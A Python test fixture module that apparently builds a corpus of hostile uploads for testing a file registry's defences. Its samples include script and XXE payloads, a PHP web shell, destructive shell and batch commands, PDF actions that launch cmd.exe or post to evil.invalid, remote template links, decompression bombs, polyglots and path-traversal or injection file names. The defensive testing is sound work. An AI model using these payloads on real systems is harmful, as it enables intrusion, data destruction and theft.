"""Files as thieves have them: over seventy, each with the name that it comes under and the bytes in it.

What is refused stays outside. What comes in (a picture with something behind its end, a text about scripts) is handed
out so that nothing of it runs; `test_attacks` holds both.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import Image, PngImagePlugin

from tests.registry_core.files.samples import PDF, RELS, TYPES, archive, docx, picture, word_parts, xlsx

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(document.cookie)</script>"
PE = b"MZ" + bytes(58) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0" + bytes(200)
ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
SHELL = b"#!/bin/sh\nrm -rf ~\n"
XML = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
HTA = b'<html><HTA:APPLICATION/><script language=VBScript>CreateObject("WScript.Shell")</script></html>'
MHT = b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"
LNK = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(100)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000)
CLASS = b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(100)
LAUGHS = "<!DOCTYPE l [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;&a;&a;'>]><w:document>&b;</w:document>"
EXTERNAL = (
    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    '{kind}" Target="http://evil.invalid/t.dotm" TargetMode="External"/></Relationships>'
)
FETCHED_TEMPLATE, FETCHED_OBJECT = (EXTERNAL.format(kind=kind) for kind in ("attachedTemplate", "oleObject"))
LINKS = "word/_rels/document.xml.rels"
MACRO_TYPES = TYPES.replace("/>", ">application/vnd.ms-word.document.macroEnabled.main+xml</Types>")
GIF_SCRIPT = b"GIF89a/*" + bytes(4) + b"*/=1;alert(1)//" + bytes(30)


def word_with(part: str, content: str | bytes) -> bytes:
    """A Word file with one part more, or another one."""
    return archive(word_parts() | {part: content})


def pdf(extra: bytes) -> bytes:
    return PDF.replace(b"/Type/Catalog", b"/Type/Catalog" + extra)


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def pixel_bomb() -> bytes:
    """A PNG of a few bytes that says it is 60,000 pixels wide and high."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(10_000))) + chunk(b"IEND", b"")


def text_bomb() -> bytes:
    """A PNG whose note unpacks to 200 MB."""
    note = chunk(b"zTXt", b"note\0\0" + zlib.compress(bytes(200_000_000), 9))
    plain = picture()
    return plain[:33] + note + plain[33:]


def commented() -> bytes:
    """A picture with a page in its comment."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", HTML.decode())
    file = io.BytesIO()
    Image.new("RGB", (8, 8)).save(file, "PNG", pnginfo=info)
    return file.getvalue()


def swelling(name: str = "word/media/image1.bin", size: int = 400_000_000) -> bytes:
    """A Word file with a part that unpacks to 400 MB."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as opened:
        for part, content in word_parts().items():
            opened.writestr(part, content)
        with opened.open(name, "w", force_zip64=True) as part_file:
            for _piece in range(size // 10_000_000):
                part_file.write(bytes(10_000_000))
    return file.getvalue()


def lying() -> bytes:
    """A Word file whose list says that a part is small."""
    whole = bytearray(word_with("word/media/image1.png", bytes(1_000_000)))
    size = struct.pack("<I", 1_000_000)
    place = whole.rfind(size)
    whole[place : place + 4] = struct.pack("<I", 10)
    return bytes(whole)


def encrypted() -> bytes:
    """A Word file whose parts claim to be locked."""
    whole = bytearray(docx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := whole.find(mark, start)) >= 0:
            whole[start + place] |= 1
            start += 4
    return bytes(whole)


def twice() -> bytes:
    """A Word file with two main parts, of which a scanner may read the other one."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as opened:
        for name, content in [*word_parts().items(), ("word/Document.xml", "<other/>")]:
            opened.writestr(name, content)
    return file.getvalue()


def damaged() -> bytes:
    """A Word file with a sign changed, and its checksum not."""
    return archive(word_parts(), compressed=False).replace(b"<w:document", b"<w:documens", 1)


def crowded() -> bytes:
    """A Word file of six thousand parts."""
    return archive(word_parts() | {f"word/p{number}.txt": "" for number in range(6_000)})


def attacks() -> dict[str, tuple[str, bytes]]:
    """By what they try: the name and the bytes."""
    return {**_pages_and_programs(), **_polyglots(), **_pictures(), **_documents(), **_archives(), **names()}


def _pages_and_programs() -> dict[str, tuple[str, bytes]]:
    return {
        "svg with script": ("logo.svg", SVG),
        "svg as png": ("logo.png", SVG),
        "svg as jpg": ("logo.jpg", SVG),
        "svg as text": ("logo.txt", SVG),
        "svg in gzip": ("logo.svgz", zlib.compress(SVG)),
        "page": ("index.html", HTML),
        "page, other ending": ("index.xhtml", HTML),
        "page as pdf": ("公文.pdf", HTML),
        "page as text": ("说明.txt", HTML),
        "page as text behind blanks": ("说明.txt", b"\n \t\r\n" * 400 + HTML),
        "page as text behind a mark": ("说明.txt", b"\xef\xbb\xbf" + HTML),
        "page as csv": ("名册.csv", HTML),
        "page as text in wide signs": ("说明.txt", HTML.decode().encode("utf-16")),
        "page as text in UTF-7": ("说明.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
        "text about scripts": ("说明.txt", b"Please type <script>alert(1)</script>\n"),
        "mail archive as text": ("说明.txt", MHT),
        "xml with entity": ("data.xml", XML),
        "xml as text": ("data.txt", XML),
        "application page": ("a.hta", HTA),
        "windows program": ("setup.exe", PE),
        "windows program as pdf": ("公文.pdf", PE),
        "windows program as picture": ("照片.jpg", PE),
        "linux program as docx": ("申请.docx", ELF),
        "java class as text": ("a.txt", CLASS),
        "script as text": ("a.txt", SHELL),
        "script": ("a.sh", SHELL),
        "batch": ("a.bat", b"del /s /q C:\\"),
        "short cut": ("名册.lnk", LNK),
        "short cut as xlsx": ("名册.xlsx", LNK),
        "script of the page": ("app.js", b"alert(1)"),
        "style": ("app.css", b"*{background:url(//evil.invalid)}"),
        "flash": ("a.swf", b"CWS\x0a" + bytes(100)),
        "server page": ("shell.php", b"<?php system($_GET[0]);"),
        "server settings": (".htaccess", b"AddType text/html .txt"),
    }


def _polyglots() -> dict[str, tuple[str, bytes]]:
    return {
        "gif that is a script": ("a.gif", GIF_SCRIPT),
        "gif that is a script as png": ("a.png", GIF_SCRIPT),
        "png with a page behind its end": ("a.png", picture() + HTML),
        "jpeg with an archive behind its end": ("a.jpg", picture("JPEG") + docx()),
        "jpeg with a program behind its end": ("a.jpg", picture("JPEG") + PE),
        "png with a page in its note": ("a.png", commented()),
        "pdf behind a page": ("a.pdf", HTML + PDF),
        "pdf behind a picture": ("a.pdf", picture("GIF") + PDF),
        "pdf with a page behind its end": ("a.pdf", PDF + b"\n%" + HTML),
        "word file behind a program": ("a.docx", PE + docx()),
        "word file behind a page": ("a.docx", HTML + docx()),
        "picture that is an xlsx": ("a.png", xlsx()),
        "xlsx as docx": ("a.docx", xlsx()),
        "archive of a program as docx": ("a.docx", archive({"setup.exe": PE})),
    }


def _pictures() -> dict[str, tuple[str, bytes]]:
    return {
        "picture of 3,600,000,000 pixels": ("a.png", pixel_bomb()),
        "picture whose note swells": ("a.png", text_bomb()),
        "picture cut off": ("a.png", picture(size=(300, 300))[:-30]),
        "picture with nothing but its mark": ("a.jpg", b"\xff\xd8\xff\xe0" + bytes(20)),
        "webp of rubbish": ("a.webp", b"RIFF\x24\0\0\0WEBPVP8 " + b"\xff" * 40),
        "tiff as jpg": ("a.jpg", b"II*\0" + bytes(100)),
        "icon as png": ("a.png", b"\0\0\x01\0\x01\0" + bytes(100)),
    }


def _documents() -> dict[str, tuple[str, bytes]]:
    return {
        "pdf with script": ("a.pdf", pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>")),
        "pdf with script in disguise": ("a.pdf", pdf(b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>")),
        "pdf that starts a program": ("a.pdf", pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>")),
        "pdf that sends a form": ("a.pdf", pdf(b"/AA<</O<</S/SubmitForm/F(http://evil.invalid)>>>>")),
        "pdf with flash": ("a.pdf", pdf(b"/Annots[<</Subtype/RichMedia>>]")),
        "pdf without end": ("a.pdf", PDF.replace(b"%%EOF", b"")),
        "pdf of one line": ("a.pdf", b"%PDF-1.7"),
    }


def _archives() -> dict[str, tuple[str, bytes]]:
    return {
        "zip bomb": ("a.docx", swelling()),
        "zip bomb as zip": ("a.zip", archive({"a": "x"})),
        "xml that swells": ("a.docx", swelling("word/styles.xml", 250_000_000)),
        "parts beyond number": ("a.docx", crowded()),
        "list that lies": ("a.docx", lying()),
        "locked parts": ("a.docx", encrypted()),
        "two main parts": ("a.docx", twice()),
        "part that climbs": ("a.docx", word_with("../../../../tmp/evil", "x")),
        "part that climbs backwards": ("a.docx", word_with("..\\..\\evil", "x")),
        "part at the root": ("a.docx", word_with("/etc/cron.d/evil", "x")),
        "part on a drive": ("a.docx", word_with("C:/evil", "x")),
        "macros": ("a.docx", word_with("word/vbaProject.bin", b"x")),
        "macros by type": ("a.docx", word_with("[Content_Types].xml", MACRO_TYPES)),
        "macros under their own ending": ("a.docm", docx()),
        "activex": ("a.docx", word_with("word/activeX/activeX1.xml", "<x/>")),
        "object inside": ("a.docx", word_with("word/embeddings/oleObject1.bin", OLE)),
        "template from elsewhere": (
            "a.docx",
            word_with(LINKS, FETCHED_TEMPLATE),
        ),
        "object from elsewhere": (
            "a.docx",
            word_with(LINKS, FETCHED_OBJECT),
        ),
        "object from elsewhere in wide signs": (
            "a.docx",
            word_with(LINKS, FETCHED_OBJECT.encode("utf-16")),
        ),
        "entities that swell": ("a.docx", word_with("word/document.xml", LAUGHS)),
        "entities in wide signs": ("a.docx", word_with("word/document.xml", LAUGHS.encode("utf-16"))),
        "old container as docx": ("a.docx", OLE),
        "old workbook": ("名册.xls", OLE),
        "no types": ("a.docx", archive({"word/document.xml": "<x/>", "_rels/.rels": RELS})),
        "checksum that is wrong": (
            "a.docx",
            damaged(),
        ),
    }


def names() -> dict[str, tuple[str, bytes]]:
    """Good files under bad names."""
    return {
        "name that climbs": ("../../../etc/passwd.pdf", PDF),
        "name that climbs backwards": ("..\\..\\windows\\a.pdf", PDF),
        "name at the root": ("/etc/cron.d/a.pdf", PDF),
        "name on a drive": ("C:\\Windows\\System32\\a.pdf", PDF),
        "name with NUL": ("a.exe\0.pdf", PDF),
        "name with NUL before the ending": ("a.pdf\0.exe", PDF),
        "name turned around": ("gp\u202efdp.exe", PDF),
        "name turned around with the right ending": ("公文\u202eexe.pdf", PDF),
        "invisible signs": ("a\u200b\u200d.p\u200bdf", PDF),
        "two endings": ("a.pdf.exe", PDF),
        "two endings the other way": ("a.exe.pdf", PDF),
        "ending behind blanks": ("a.pdf                                     .exe", PDF),
        "ending with a dot": ("a.pdf.", PDF),
        "stream of a file": ("a.pdf::$DATA", PDF),
        "device": ("CON.pdf", PDF),
        "device with blanks": ("com1 .pdf", PDF),
        "lines in the name": ('a"\r\nSet-Cookie: desk=evil\r\n.pdf', PDF),
        "quotes in the name": ('a"; filename="evil.exe.pdf', PDF),
        "markup in the name": ("<img src=x onerror=alert(1)>.pdf", PDF),
        "percent in the name": ("a%2e%2e%2fevil.pdf", PDF),
        "template in the name": ("{{ 7*7 }}.pdf", PDF),
        "query in the name": ("a.pdf'; DROP TABLE stored_file; --.pdf", PDF),
        "half of a sign": ("a\ud800.pdf", PDF),
        "name of a thousand signs": ("长" * 990 + ".pdf", PDF),
        "name of dots": ("....pdf", PDF),
        "only an ending": (".pdf", PDF),
        "wide signs that look like a slash": ("a\uff0f..\uff0fevil.pdf", PDF),
    }
